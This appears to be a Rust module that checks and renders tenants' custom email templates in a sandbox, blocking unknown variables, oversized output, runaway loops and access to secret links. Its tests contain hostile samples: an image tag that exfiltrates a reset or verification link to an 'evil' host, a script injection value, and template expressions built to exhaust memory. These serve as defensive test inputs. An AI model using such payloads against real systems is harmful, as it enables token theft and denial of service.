//! A tenant's own subject and bodies of a message (`email_templates` in its schema).
//!
//! An override is minijinja source, checked when it is saved ([`check`]): each part is
//! compiled and rendered with the message's sample variables ([`Template::variables`]) in
//! strict mode, so a syntax error or a variable the message does not have is refused then,
//! not when the message is sent. The HTML part is auto-escaped (values holding `<script>`
//! arrive as text); an override without one sends its text, escaped, as the HTML part.
//!
//! What a template can reach is only the values of its message: the environment has no
//! loader (no `include`, `import` or `extends` of anything), no custom functions or
//! globals, and a fuel budget ([`FUEL`]) so that no loop runs forever; the output is
//! written into a writer that fails past [`OUTPUT_MAX`], and what could build a large
//! value before anything is written (repetition, concatenation, block captures, calls,
//! most filters) is refused when the template is compiled.

use minijinja::machinery::{self, Instruction, Token};
use minijinja::{Environment, UndefinedBehavior, Value as Jinja};
use serde_json::Value;
use sqlx::PgConnection;

use crate::{Rendered, Template};

/// Longest subject (characters).
pub const SUBJECT_MAX: usize = 200;
/// Largest text or HTML body (bytes).
pub const BODY_MAX: usize = 64 * 1024;
/// Instructions one part may execute when rendered.
pub const FUEL: u64 = 50_000;
/// Largest rendered part (bytes).
pub const OUTPUT_MAX: usize = 256 * 1024;

/// A tenant's version of a message.
#[derive(Debug, Clone, PartialEq, Eq, sqlx::FromRow)]
pub struct TemplateOverride {
    /// Subject line (minijinja).
    pub subject: String,
    /// Plain-text body (minijinja).
    #[sqlx(rename = "text_body")]
    pub text: String,
    /// HTML body (minijinja, auto-escaped); none: the text, escaped.
    #[sqlx(rename = "html_body")]
    pub html: Option<String>,
}

/// Why an override cannot be used.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error("{part}: {message}")]
pub struct TemplateProblem {
    /// Which part (`subject`, `text`, `html`).
    pub part: &'static str,
    /// The engine's message, with the line.
    pub message: String,
}

fn problem(part: &'static str, error: &minijinja::Error) -> TemplateProblem {
    let mut message = error.to_string();
    if let Some(line) = error.line()
        && !message.contains("line")
    {
        message = format!("{message} (line {line})");
    }
    TemplateProblem { part, message }
}

fn environment() -> Environment<'static> {
    let mut env = Environment::new();
    env.set_undefined_behavior(UndefinedBehavior::Strict);
    env.set_fuel(Some(FUEL));
    env
}

/// Instructions an override may not use: each could build a value much larger than its
/// source (`"x" * 100000000`, `a ~ a`, a captured block doubled again and again, a filter
/// such as `replace` or `center`) before anything is written, which [`OUTPUT_MAX`] alone
/// cannot stop. What is left (variables, `if`, `for` over `range` or a value, comparisons
/// and a few filters) only emits pieces that the bounded writer counts.
fn refused(instruction: &Instruction<'_>) -> Option<String> {
    const FILTERS: &[&str] = &[
        "upper",
        "lower",
        "title",
        "capitalize",
        "trim",
        "default",
        "d",
        "length",
        "count",
        "first",
        "last",
        "abs",
        "int",
        "float",
        "round",
        "bool",
        "safe",
    ];
    match instruction {
        Instruction::Mul | Instruction::Pow => Some("repetition (`*`, `**`)".to_owned()),
        Instruction::Add | Instruction::StringConcat => Some("concatenation (`+`, `~`)".to_owned()),
        Instruction::BeginCapture(_) => Some("block assignments and filter blocks".to_owned()),
        Instruction::CallMethod(name, _) => Some(format!("the method `{name}`")),
        Instruction::CallObject(_) => Some("calls".to_owned()),
        Instruction::CallFunction(name, _) if *name != "range" => {
            Some(format!("the function `{name}`"))
        }
        Instruction::ApplyFilter(name, ..) if !FILTERS.contains(name) => {
            Some(format!("the filter `{name}`"))
        }
        _ => None,
    }
}

/// A writer that keeps at most `max` bytes and fails past them.
struct Bounded {
    out: Vec<u8>,
    max: usize,
    exceeded: bool,
}

impl std::io::Write for Bounded {
    fn write(&mut self, data: &[u8]) -> std::io::Result<usize> {
        if self.out.len() + data.len() > self.max {
            self.exceeded = true;
            return Err(std::io::Error::other("output too large"));
        }
        self.out.extend_from_slice(data);
        Ok(data.len())
    }

    fn flush(&mut self) -> std::io::Result<()> {
        Ok(())
    }
}

/// Renders `part` (named so that `.html` parts auto-escape) with `vars`, into a writer that
/// refuses more than [`OUTPUT_MAX`] bytes (nothing larger is ever held).
fn render_part(
    env: &mut Environment<'static>,
    part: &'static str,
    name: &'static str,
    source: &str,
    vars: &Jinja,
) -> Result<String, TemplateProblem> {
    // Before compiling: the compiler folds constant operations (`"x" * 100000000`) itself.
    for token in machinery::tokenize(source, false, Default::default(), Default::default()) {
        let (token, span) = token.map_err(|e| problem(part, &e))?;
        let what = match token {
            Token::Mul | Token::Pow => "repetition (`*`, `**`)",
            Token::Plus | Token::Tilde => "concatenation (`+`, `~`)",
            _ => continue,
        };
        return Err(TemplateProblem {
            part,
            message: format!(
                "{what} is not allowed in an email template (line {})",
                span.start_line
            ),
        });
    }
    env.add_template_owned(name, source.to_owned())
        .map_err(|e| problem(part, &e))?;
    let template = env.get_template(name).map_err(|e| problem(part, &e))?;
    let compiled = machinery::get_compiled_template(&template);
    let blocks = compiled.blocks.values();
    for instructions in std::iter::once(&compiled.instructions).chain(blocks) {
        for index in 0..instructions.len() {
            if let Some(what) = instructions.get(index as u32).and_then(refused) {
                let line = instructions.get_line(index as u32).unwrap_or(1);
                return Err(TemplateProblem {
                    part,
                    message: format!("{what} is not allowed in an email template (line {line})"),
                });
            }
        }
    }
    let mut out = Bounded {
        out: Vec::new(),
        max: OUTPUT_MAX,
        exceeded: false,
    };
    let rendered = template.render_captured_to(vars, &mut out);
    if out.exceeded {
        return Err(TemplateProblem {
            part,
            message: format!("renders to more than {OUTPUT_MAX} bytes"),
        });
    }
    rendered.map_err(|e| problem(part, &e))?;
    String::from_utf8(out.out).map_err(|_| TemplateProblem {
        part,
        message: "renders to invalid UTF-8".to_owned(),
    })
}

/// Adds the platform's HTML `block` to a tenant's HTML part: before its last `</body>`,
/// or at its end.
fn insert_html(html: &str, block: &str) -> String {
    match html.to_ascii_lowercase().rfind("</body") {
        Some(at) => format!("{}{block}{}", &html[..at], &html[at..]),
        None => format!("{html}\n{block}"),
    }
}

/// Renders `custom` (the tenant's override of `template`) with `vars` (the message's
/// values). The override sees only [`Template::override_variables`]; for a template with a
/// platform block ([`Template::has_platform_block`]), the platform's block, rendered with
/// the real values, follows the tenant's text and HTML, so the link (or the event) is in
/// the message exactly where and how the platform puts it.
pub fn render(
    template: Template,
    custom: &TemplateOverride,
    vars: &Value,
) -> Result<Rendered, TemplateProblem> {
    let allowed: Vec<&str> = template
        .override_variables()
        .iter()
        .map(|(name, _)| *name)
        .collect();
    let visible: serde_json::Map<String, Value> = vars
        .as_object()
        .into_iter()
        .flatten()
        .filter(|(name, _)| allowed.contains(&name.as_str()))
        .map(|(name, value)| (name.clone(), value.clone()))
        .collect();
    let mut env = environment();
    let visible = Jinja::from_serialize(Value::Object(visible));
    let subject = render_part(
        &mut env,
        "subject",
        "subject.txt",
        &custom.subject,
        &visible,
    )?;
    let mut text = render_part(&mut env, "text", "body.txt", &custom.text, &visible)?;
    let mut html = match &custom.html {
        Some(html) => render_part(&mut env, "html", "body.html", html, &visible)?,
        None => {
            let escaped = render_part(
                &mut env,
                "text",
                "text-as.html",
                "{{ text }}",
                &Jinja::from_serialize(serde_json::json!({ "text": text })),
            )?;
            format!(
                "<!doctype html>\n<html><body><pre style=\"font-family: sans-serif; white-space: pre-wrap\">{escaped}</pre></body></html>\n"
            )
        }
    };
    let block = crate::render_block(template, vars).map_err(|error| TemplateProblem {
        part: "text",
        message: format!("{error}"),
    })?;
    if let Some((block_text, block_html)) = block {
        text = format!("{}\n\n{block_text}", text.trim_end());
        html = insert_html(&html, &block_html);
    }
    Ok(Rendered {
        subject: subject.trim().to_owned(),
        text,
        html,
    })
}

/// The sample values of `template` (see [`Template::variables`]; an override sees only
/// [`Template::override_variables`] of them).
pub fn sample(template: Template) -> Value {
    Value::Object(
        template
            .variables()
            .iter()
            .map(|(name, value)| ((*name).to_owned(), Value::String((*value).to_owned())))
            .collect(),
    )
}

/// Whether `custom` can stand in for `template`: every part compiles and renders with the
/// message's sample values, using no other variable, within the bounds. A template whose
/// link the platform adds refuses an override that names `link`. Returns the sample
/// rendering.
pub fn check(template: Template, custom: &TemplateOverride) -> Result<Rendered, TemplateProblem> {
    if template.has_platform_block() {
        let parts = [
            ("subject", Some(custom.subject.as_str())),
            ("text", Some(custom.text.as_str())),
            ("html", custom.html.as_deref()),
        ];
        for (part, source) in parts {
            let Some(source) = source else { continue };
            let tokens = machinery::tokenize(source, false, Default::default(), Default::default());
            for (token, span) in tokens.flatten() {
                if matches!(token, Token::Ident("link")) {
                    return Err(TemplateProblem {
                        part,
                        message: format!(
                            "`link` is not available in this template (line {}): the platform adds the link after your text",
                            span.start_line
                        ),
                    });
                }
            }
        }
    }
    render(template, custom, &sample(template))
}

/// The tenant's override of `template`, if any.
pub async fn find(
    conn: &mut PgConnection,
    template: Template,
) -> Result<Option<TemplateOverride>, sqlx::Error> {
    sqlx::query_as("select subject, text_body, html_body from email_templates where name = $1")
        .bind(template.as_str())
        .fetch_optional(conn)
        .await
}

/// The templates the tenant overrides.
pub async fn overridden(conn: &mut PgConnection) -> Result<Vec<Template>, sqlx::Error> {
    let names: Vec<String> = sqlx::query_scalar("select name from email_templates")
        .fetch_all(conn)
        .await?;
    Ok(names.iter().filter_map(|n| n.parse().ok()).collect())
}

/// Saves `custom` as the tenant's `template` (replacing an earlier one). Check it first.
pub async fn save(
    conn: &mut PgConnection,
    template: Template,
    custom: &TemplateOverride,
) -> Result<(), sqlx::Error> {
    sqlx::query(
        "insert into email_templates (name, subject, text_body, html_body)
         values ($1, $2, $3, $4)
         on conflict (name) do update
         set subject = excluded.subject, text_body = excluded.text_body,
             html_body = excluded.html_body, updated_at = now()",
    )
    .bind(template.as_str())
    .bind(&custom.subject)
    .bind(&custom.text)
    .bind(&custom.html)
    .execute(conn)
    .await?;
    Ok(())
}

/// Drops the tenant's `template` (the built-in one is used again); whether there was one.
pub async fn remove(conn: &mut PgConnection, template: Template) -> Result<bool, sqlx::Error> {
    let done = sqlx::query("delete from email_templates where name = $1")
        .bind(template.as_str())
        .execute(conn)
        .await?;
    Ok(done.rows_affected() > 0)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn custom(subject: &str, text: &str, html: Option<&str>) -> TemplateOverride {
        TemplateOverride {
            subject: subject.to_owned(),
            text: text.to_owned(),
            html: html.map(str::to_owned),
        }
    }

    #[test]
    fn an_override_renders_its_variables_and_escapes_only_html() {
        let vars = serde_json::json!({"tenant_name": "Acme", "user_name": "<script>x</script>"});
        let rendered = render(
            Template::Welcome,
            &custom(
                "Hi {{ user_name }}",
                "Hello {{ user_name }} of {{ tenant_name }}",
                Some("<p>{{ user_name }}</p>"),
            ),
            &vars,
        )
        .expect("renders");
        assert_eq!(rendered.text, "Hello <script>x</script> of Acme");
        assert_eq!(rendered.html, "<p>&lt;script&gt;x&lt;&#x2f;script&gt;</p>");
        let text_only = render(
            Template::Welcome,
            &custom("s", "{{ user_name }}", None),
            &vars,
        )
        .expect("renders");
        assert!(text_only.html.contains("&lt;script&gt;"), "{text_only:?}");
        assert!(!text_only.html.contains("<script>"));
    }

    #[test]
    fn a_broken_or_unknown_or_endless_template_is_refused() {
        let unknown = check(Template::Welcome, &custom("s", "{{ password }}", None))
            .expect_err("unknown variable");
        assert_eq!(unknown.part, "text");
        let syntax =
            check(Template::Welcome, &custom("s", "ok\n{% if %}", None)).expect_err("syntax error");
        assert!(syntax.message.contains("line 2"), "{syntax:?}");
        let endless = check(
            Template::Welcome,
            &custom(
                "s",
                "{% for a in range(10000) %}{% for b in range(10000) %}x{% endfor %}{% endfor %}",
                None,
            ),
        )
        .expect_err("out of fuel");
        assert_eq!(endless.part, "text");
        let no_include = check(Template::Welcome, &custom("{% include 'x' %}", "t", None))
            .expect_err("no loader");
        assert_eq!(no_include.part, "subject");
        for template in Template::ALL {
            let vars: String = template
                .override_variables()
                .iter()
                .map(|(name, _)| format!("{{{{ {name} }}}} "))
                .collect();
            check(template, &custom(&vars, &vars, Some(&vars))).expect("documented variables");
        }
    }

    #[test]
    fn a_secret_link_is_the_platforms_and_comes_once() {
        for template in [
            Template::Verification,
            Template::PasswordReset,
            Template::Invitation,
        ] {
            let steal = custom("s", "x", Some("<img src=\"https://evil/?t={{ link }}\">"));
            let refused = check(template, &steal).expect_err("no link");
            assert_eq!(refused.part, "html");
            assert!(
                refused.message.contains("platform adds the link"),
                "{refused:?}"
            );
            let sample = sample(template);
            let link = sample["link"].as_str().expect("link");
            let html = "<html><body><p>Ours, {{ tenant_name }}</p></body></html>";
            let rendered = check(template, &custom("s", "Ours", Some(html))).expect("renders");
            assert_eq!(rendered.text.matches(link).count(), 1, "{rendered:?}");
            assert!(rendered.text.starts_with("Ours\n\n"), "{rendered:?}");
            // Escaped in HTML (`/` as `&#x2f;`), as in the built-in template.
            let token = "token=sample";
            assert_eq!(rendered.html.matches(token).count(), 1, "{rendered:?}");
            assert!(
                rendered.html.ends_with("</p></body></html>"),
                "{rendered:?}"
            );
            let text_only = check(template, &custom("s", "Ours", None)).expect("renders");
            assert_eq!(text_only.html.matches(token).count(), 1, "{text_only:?}");
        }
        let event = "Your password was changed.";
        let notice =
            check(Template::SecurityNotice, &custom("s", "Nothing here", None)).expect("renders");
        assert!(notice.text.contains(event), "{notice:?}");
        assert!(notice.html.contains(event), "{notice:?}");
        let welcome = check(Template::Welcome, &custom("s", "Only ours", None)).expect("renders");
        assert_eq!(welcome.text, "Only ours");
    }

    #[test]
    fn an_override_cannot_build_a_huge_value() {
        let big = "x".repeat(OUTPUT_MAX / 2);
        let vars = serde_json::json!({ "tenant_name": big });
        let loud = render(
            Template::Welcome,
            &custom(
                "s",
                "{% for i in range(10) %}{{ tenant_name }}{% endfor %}",
                None,
            ),
            &vars,
        )
        .expect_err("bounded output");
        assert_eq!(loud.part, "text");
        assert!(loud.message.contains("more than"), "{loud:?}");
        for source in [
            "{{ \"x\" * 100000000 }}",
            "{{ tenant_name ~ tenant_name }}",
            "{{ tenant_name + tenant_name }}",
            "{% set a %}{{ tenant_name }}{{ tenant_name }}{% endset %}{{ a }}",
            "{{ tenant_name|replace('', tenant_name) }}",
            "{{ tenant_name|center(100000000) }}",
        ] {
            let refused =
                check(Template::Welcome, &custom("s", source, None)).expect_err("no huge values");
            assert_eq!(refused.part, "text");
            assert!(
                refused.message.contains("not allowed"),
                "{source}: {refused:?}"
            );
        }
    }
}
